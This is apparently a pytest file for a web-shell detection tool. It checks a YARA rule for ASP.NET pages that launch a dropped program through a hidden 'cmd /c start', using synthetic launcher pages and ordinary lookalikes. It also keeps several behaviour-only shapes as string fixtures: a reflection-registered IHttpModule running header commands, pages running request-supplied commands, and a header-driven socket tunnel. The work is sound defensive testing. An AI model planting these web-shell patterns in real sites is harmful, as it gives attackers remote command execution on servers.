"""Rules and kept findings from the ninth unseen collection, shells inside code (issue 14, helper X11).

One shape the own rules missed on first sight (BENCHMARKS.md, "Unseen shells, ninth collection"): a page
with no request input that starts a program dropped in the site folder through ``cmd /c start`` with the
window hidden - the page is the dropped binary's launcher. ``EXT_WEBSHELL_Hidden_Detached_Launcher``
(``data/rules/detached_launchers.yar``) matches that shape; the pages below reproduce it and the ordinary
pages closest to it. A second group keeps the shapes that only the behaviour analysis found on first sight
(no YARA rule of ours fired): an ``IHttpModule`` class registered at run time that runs a header's
command, a one-line page whose directive is written ``<% @ Page``, a VB page with single-quoted
attributes saved as UTF-16, and a header-driven socket tunnel that keeps a process's streams in Session.
All of them were written for these tests: the programs named do not exist, nothing is compiled or run,
and none of them is a copy of a real shell.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from extriage.detections.webfiles import content

from .rule_tables import page_hits

RULE = "EXT_WEBSHELL_Hidden_Detached_Launcher"


def findings(
    tmp_path: Path, name: str, page: str, params: content.ContentParams, encoding: str = "utf-8"
) -> tuple[set[str], set[str]]:
    """(our YARA rules, behaviour sinks) for one page written to ``tmp_path``."""
    hits = page_hits(tmp_path, name, page, params, encoding)
    rules = {h["rule"] for h in hits if h["check"] == "yara"}
    sinks = {h["sink"] for h in hits if h["check"] == "behaviour"}
    return rules, sinks


# --- a page that detaches a dropped program through a hidden "cmd /c start" ---------------------------
LAUNCHERS: list[tuple[str, str, str]] = [
    (
        "vb-startinfo-createnowindow",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Protected Sub Page_Load(ByVal sender As Object, ByVal e As EventArgs) Handles Me.Load\n"
        "    Try\n"
        '        Dim psi As New System.Diagnostics.ProcessStartInfo("cmd.exe", "/c start C:\\Sites\\example\\tool.exe")\n'
        "        psi.UseShellExecute = False\n        psi.CreateNoWindow = True\n"
        "        System.Diagnostics.Process.Start(psi)\n    Catch\n    End Try\n"
        "    Response.End()\nEnd Sub\n</script>",
    ),
    (
        "cs-start-b-concatenated",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    string p = Server.MapPath("~/App_Data/example.exe");\n'
        '    var i = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c start /b " + p);\n'
        "    i.UseShellExecute = false;\n"
        "    System.Diagnostics.Process.Start(i);\n}\n</script>",
    ),
    (
        "vb-shell-vbhide-batch",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%\nShell("cmd /c start C:\\Windows\\Temp\\example.bat", vbHide)\n%>',
    ),
    (
        "cs-handler-hidden-title-vbs",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\n'
        "public class H : IHttpHandler {\n"
        "    public void ProcessRequest(HttpContext c) {\n"
        "        var p = new System.Diagnostics.Process();\n"
        '        p.StartInfo.FileName = "cmd.exe";\n'
        '        p.StartInfo.Arguments = "/c start \\"\\" C:\\\\ProgramData\\\\example.vbs";\n'
        "        p.StartInfo.WindowStyle = System.Diagnostics.ProcessWindowStyle.Hidden;\n"
        "        p.Start();\n    }\n"
        "    public bool IsReusable { get { return false; } }\n}",
    ),
    (
        "cs-powershell-start-process-hidden",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'System.Diagnostics.Process.Start("powershell.exe", "-w hidden -c Start-Process C:\\\\ProgramData\\\\example.exe");\n%>',
    ),
]

ORDINARY: list[tuple[str, str, str]] = [
    (
        "powershell-hidden-report-output-read",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    var i = new System.Diagnostics.ProcessStartInfo("powershell.exe", "-NoProfile -WindowStyle Hidden -File C:\\\\Scripts\\\\report.ps1");\n'
        "    i.RedirectStandardOutput = true; i.UseShellExecute = false;\n"
        "    Output.Text = System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd();\n}\n</script>",
    ),
    (
        "fixed-tool-hidden-output-shown",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    var i = new System.Diagnostics.ProcessStartInfo("ipconfig.exe", "/all");\n'
        "    i.RedirectStandardOutput = true; i.UseShellExecute = false; i.CreateNoWindow = true;\n"
        "    Output.Text = System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd();\n}\n</script>",
    ),
    (
        "report-opened-in-viewer",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Export_Click(object s, EventArgs e) {\n"
        '    string f = Server.MapPath("~/Reports/monthly.pdf");\n'
        "    System.Diagnostics.Process.Start(f);\n}\n</script>",
    ),
    (
        "help-page-quoting-start",
        ".aspx",
        '<%@ Page Language="C#" %>\n<html><body>\n'
        "<p>To install the client run <code>cmd /c start setup.exe</code> with CreateNoWindow = true in your script.</p>\n"
        "</body></html>",
    ),
    (
        "kiosk-visible-help-file",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Help_Click(s As Object, e As EventArgs)\n"
        '    System.Diagnostics.Process.Start("cmd.exe", "/c start C:\\Kiosk\\viewer.exe")\n'
        "End Sub\n</script>",
    ),
]


@pytest.mark.parametrize(("case", "ext", "page"), LAUNCHERS, ids=[c[0] for c in LAUNCHERS])
def test_launcher_is_found(
    tmp_path: Path, params: content.ContentParams, case: str, ext: str, page: str
) -> None:
    rules, _ = findings(tmp_path, f"{case}{ext}", page, params)
    assert RULE in rules


@pytest.mark.parametrize(("case", "ext", "page"), ORDINARY, ids=[c[0] for c in ORDINARY])
def test_ordinary_page_is_not_flagged(
    tmp_path: Path, params: content.ContentParams, case: str, ext: str, page: str
) -> None:
    rules, _ = findings(tmp_path, f"{case}{ext}", page, params)
    assert RULE not in rules


def test_launcher_quoted_in_a_log_is_not_a_page(tmp_path: Path, params: content.ContentParams) -> None:
    log = "#Fields: date time cs-method cs-uri-stem\n2026-12-06 01:00:00 GET /x.aspx\n" + LAUNCHERS[0][2]
    rules, _ = findings(tmp_path, "u_ex261206.log", log, params)
    assert RULE not in rules


def test_launcher_needs_a_server_page(tmp_path: Path, params: content.ContentParams) -> None:
    """The same statements in a plain text note (no directive, no runat=server) are not a page."""
    note = LAUNCHERS[0][2].replace('<%@ Page Language="VB" %>\n', "").replace(' runat="server"', "")
    rules, _ = findings(tmp_path, "notes.txt", note, params)
    assert RULE not in rules


# --- shapes only the behaviour analysis found on first sight: they must stay found --------------------
KEPT: list[tuple[str, str, str, str]] = [
    (
        "module-registered-at-run-time",
        "App_Code/ExampleModule.cs",
        "utf-8",
        "using System;\nusing System.Web;\nusing System.Diagnostics;\nusing System.Reflection;\n"
        "public class ExampleModule : IHttpModule {\n"
        "    public void Init(HttpApplication app) {\n"
        "        app.BeginRequest += (s, e) => {\n"
        '            string c = app.Context.Request.Headers["X-Example"];\n'
        "            if (c == null) return;\n"
        '            var i = new ProcessStartInfo("cmd", "/c " + c) { RedirectStandardOutput = true, UseShellExecute = false };\n'
        '            using (var p = Process.Start(i)) { app.Context.Items["o"] = p.StandardOutput.ReadToEnd(); }\n'
        "        };\n    }\n    public void Dispose() { }\n"
        "    public static void Install(HttpContext c) {\n"
        '        var f = typeof(HttpApplication).GetField("_moduleCollection", BindingFlags.NonPublic | BindingFlags.Instance);\n'
        "        var col = f.GetValue(c.ApplicationInstance);\n"
        '        col.GetType().GetMethod("Add", BindingFlags.NonPublic | BindingFlags.Instance)\n'
        '            .Invoke(col, new object[] { "example", new ExampleModule() });\n'
        "    }\n}\n",
    ),
    (
        "spaced-directive-one-line",
        "example.aspx",
        "utf-8",
        '<% @ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Item["example"]); %>',
    ),
    (
        "vb-single-quoted-utf16",
        "index.aspx",
        "utf-16",
        "\n        <%@ Page Language='VB' Debug='true' %>\n        <%@ import Namespace='System.Diagnostics' %>\n"
        "        <script runat='server'>\n"
        "        Sub RunIt(Src As Object, E As EventArgs)\n"
        "          Dim p As New Process()\n"
        "          Dim i As New ProcessStartInfo(ProgramBox.Text)\n"
        "          i.UseShellExecute = false\n          i.RedirectStandardOutput = true\n"
        "          p.StartInfo = i\n          i.Arguments = ArgsBox.Text\n          p.Start()\n"
        "          Result.Text = p.StandardOutput.ReadToEnd()\n        End Sub\n        </script>\n"
        "        <form runat='server'><asp:TextBox id='ProgramBox' runat='server'/>"
        "<asp:TextBox id='ArgsBox' runat='server'/><asp:Button id='B' onclick='RunIt' runat='server'/>"
        "<asp:Label id='Result' runat='server'/></form>\n",
    ),
    (
        "header-tunnel-session-process",
        "tunnel.aspx",
        "utf-8",
        '<%@ Page Language="C#" EnableSessionState="true" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    if (Request.Headers["X-Key"] != "example-key") { Response.StatusCode = 404; return; }\n'
        '    if (Request.Headers["X-Mode"] == "C") {\n'
        "        var sock = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork,\n"
        "            System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp);\n"
        '        sock.Connect(System.Net.IPAddress.Parse(Request.Headers["X-Host"]), int.Parse(Request.Headers["X-Port"]));\n'
        '        Session["s"] = sock;\n'
        '    } else if (Request.Headers["X-Mode"] == "X") {\n'
        "        var p = new System.Diagnostics.Process();\n"
        '        p.StartInfo.FileName = Request.Headers["X-Program"];\n'
        "        p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardInput = true;\n"
        '        p.Start();\n        Session["in"] = p.StandardInput;\n'
        "    } else {\n"
        '        var sock = (System.Net.Sockets.Socket)Session["s"];\n'
        "        sock.Send(Request.BinaryRead(Request.TotalBytes));\n    }\n}\n</script>",
    ),
]


@pytest.mark.parametrize(("case", "name", "encoding", "page"), KEPT, ids=[k[0] for k in KEPT])
def test_behaviour_keeps_finding(
    tmp_path: Path, params: content.ContentParams, case: str, name: str, encoding: str, page: str
) -> None:
    rules, sinks = findings(tmp_path, name, page, params, encoding)
    assert sinks or rules, case
